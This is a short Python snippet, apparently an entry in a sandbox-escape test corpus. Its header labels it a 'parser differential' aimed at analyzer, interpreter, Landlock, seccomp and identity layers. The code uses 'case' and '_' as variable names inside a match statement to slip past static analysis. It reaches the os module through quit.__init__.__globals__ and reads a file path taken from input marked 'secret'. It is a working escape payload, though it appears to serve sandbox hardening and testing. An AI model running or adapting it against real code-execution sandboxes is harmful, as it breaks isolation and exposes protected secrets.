# class: parser differentials
# technique: case and _ as names
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
case = _ = quit.__init__
match _:
    case case:
        g = case.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
